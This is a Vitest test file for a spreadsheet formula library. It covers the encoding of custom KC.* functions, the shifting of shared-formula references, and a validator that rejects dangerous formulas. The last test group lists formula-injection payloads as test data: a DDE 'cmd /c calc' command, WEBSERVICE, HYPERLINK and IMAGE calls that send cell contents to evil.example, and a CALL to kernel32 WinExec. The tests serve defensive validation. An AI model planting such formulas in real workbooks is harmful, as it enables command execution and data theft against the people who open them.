import { describe, expect, it } from "vitest";
import { decodeFormula, encodeFormula, isUnwritable, shiftFormula } from "./formula.ts";

describe("custom functions in a file", () => {
  it.each([
    ["=KC.THANHTIEN(D5,E5)", "_xldudf_KC_THANHTIEN(D5,E5)"],
    ["=IF(A1>0,KC.GIA(A1),KC.GIA(A2))", "IF(A1>0,_xldudf_KC_GIA(A1),_xldudf_KC_GIA(A2))"],
    ['=KC.BANGCHU(A1)&" KC.GIA(1)"', '_xldudf_KC_BANGCHU(A1)&" KC.GIA(1)"'],
    ["='KC.GIA(1)'!A1+KC.GIA(2)", "'KC.GIA(1)'!A1+_xldudf_KC_GIA(2)"],
    ["=XKC.GIA(1)+KC.X", "XKC.GIA(1)+KC.X"],
    [
      "=SUMIFS(KC_DuToan!$F$5:$F$5004,KC_DuToan!$A$5:$A$5004,$A5)",
      "SUMIFS(KC_DuToan!$F$5:$F$5004,KC_DuToan!$A$5:$A$5004,$A5)",
    ],
    ["=XLOOKUP(A1,B:B,C:C)", "_xlfn.XLOOKUP(A1,B:B,C:C)"],
    ["=FILTER(A1:A9,B1:B9)", "_xlfn._xlws.FILTER(A1:A9,B1:B9)"],
  ])("%s ⇄ %s", (shown, stored) => {
    expect(encodeFormula(shown)).toBe(stored);
    expect(decodeFormula(stored)).toBe(shown);
  });

  it.each([
    "KC.GIA(A1)",
    "_xlfn.KC.GIA(A1)",
    "_xludf.KC.GIA(A1)",
    "_xldudf_kc_gia(A1)",
    "_XLDUDF_KC_GIA(A1)",
    "kc.gia(A1)",
    "KC_GIA(A1)",
  ])("reads the spelling %s", (stored) => {
    expect(decodeFormula(stored)).toBe("=KC.GIA(A1)");
  });

  it("leaves newer functions it does not know as they are", () => {
    expect(decodeFormula("_xlfn.LET(_xlpm.a,1,_xlpm.a)")).toBe("=_xlfn.LET(_xlpm.a,1,_xlpm.a)");
  });
});

describe("shared formulas", () => {
  it.each([
    ["A1+$B1+C$1+$D$1", 2, 3, "C4+$B4+E$1+$D$1"],
    ["SUM(A:A,2:3)+LOG10(A1)", 1, 1, "SUM(B:B,3:4)+LOG10(B2)"],
    ["\"A1\"&A1&'A1'!A1", 0, 1, "\"A1\"&A2&'A1'!A2"],
    ["A1+1.5E+10+TX1!B1", 1, 0, "B1+1.5E+10+TX1!C1"],
    ["tbl[[#This Row],[A1]]+A1", 0, 1, "tbl[[#This Row],[A1]]+A2"],
    ["A1", -1, 0, "#REF!"],
    ["XFD1048576", 0, 1, "#REF!"],
  ])("%s shifted by %i,%i", (formula, columns, rows, expected) => {
    expect(shiftFormula(formula, columns, rows)).toBe(expected);
  });
});

describe("formulas that must not reach a file", () => {
  it.each([
    `=cmd|'/c calc'!A0`,
    "=[1]Sheet1!A1",
    "='C:\\x\\[gia.xlsx]Sheet1'!A1",
    "=SUM(BangLa[Tiền])",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=_xlfn.WEBSERVICE ("http://evil.example")',
    '=IF(TRUE,hyperlink("http://evil.example/?"&B2,"Xem"),0)',
    '=IMAGE("https://evil.example/"&A1)',
    '=LET(f,WEBSERVICE,f("http://evil.example"))',
    '=IMPORTXML("http://evil.example","//a")',
    '=RTD("x","","y")',
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
  ])("%s", (formula) => {
    expect(isUnwritable(formula, ["tblDeAn"])).toBe(true);
  });

  it.each(["=SUM(tblDeAn[Tổng kinh phí])", '=A1&"|"', "=SUM({1,2;3,4})", "=KC.GIA(A1)", '="WEBSERVICE(1)"'])(
    "%s is harmless",
    (formula) => {
      expect(isUnwritable(formula, ["tblDeAn"])).toBe(false);
    },
  );
});
